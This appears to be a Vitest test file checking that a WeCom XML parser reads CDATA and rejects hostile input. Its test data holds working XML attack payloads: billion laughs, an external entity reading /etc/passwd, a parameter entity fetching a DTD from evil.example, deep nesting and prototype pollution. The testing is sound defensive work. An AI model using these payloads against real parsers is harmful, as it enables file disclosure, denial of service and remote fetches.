import { describe, expect, it } from 'vitest';
import { parseXml, XmlError } from '../../src/platforms/wecom/xml.js';

describe('safe XML parsing', () => {
  it('reads CDATA, keeps values as strings and decodes the predefined entities', () => {
    const out = parseXml(
      '<xml><MsgId>7379981234567890123456</MsgId><Text><Content><![CDATA[@RobotA 第7条 <b>&amp;</b>]]></Content></Text><Name>a &lt; b</Name></xml>',
    );
    expect(out).toEqual({ xml: { MsgId: '7379981234567890123456', Text: { Content: '@RobotA 第7条 <b>&amp;</b>' }, Name: 'a < b' } });
  });

  it('accepts a DOCTYPE-looking string inside CDATA (a user may type it)', () => {
    const out = parseXml('<xml><Content><![CDATA[<!DOCTYPE x>]]></Content></xml>') as { xml: { Content: string } };
    expect(out.xml.Content).toBe('<!DOCTYPE x>');
  });

  const hostile: Record<string, string> = {
    'billion laughs': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><xml><a>&lol2;</a></xml>`,
    'external entity': `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><xml><a>&xxe;</a></xml>`,
    'parameter entity': `<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><xml/>`,
    'lower-case doctype': `<!doctype xml><xml><a>1</a></xml>`,
    'conditional section': `<xml><![INCLUDE[<a>1</a>]]></xml>`,
    'deep nesting': `${'<a>'.repeat(50_000)}x${'</a>'.repeat(50_000)}`,
    'unclosed tag': '<xml><Encrypt>abc</xml>',
    'not XML': 'hello',
    'prototype pollution': '<xml><__proto__><polluted>yes</polluted></__proto__></xml>',
  };
  for (const [name, text] of Object.entries(hostile)) {
    it(`rejects ${name} with an XmlError`, () => {
      expect(() => parseXml(text)).toThrow(XmlError);
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });
  }
});
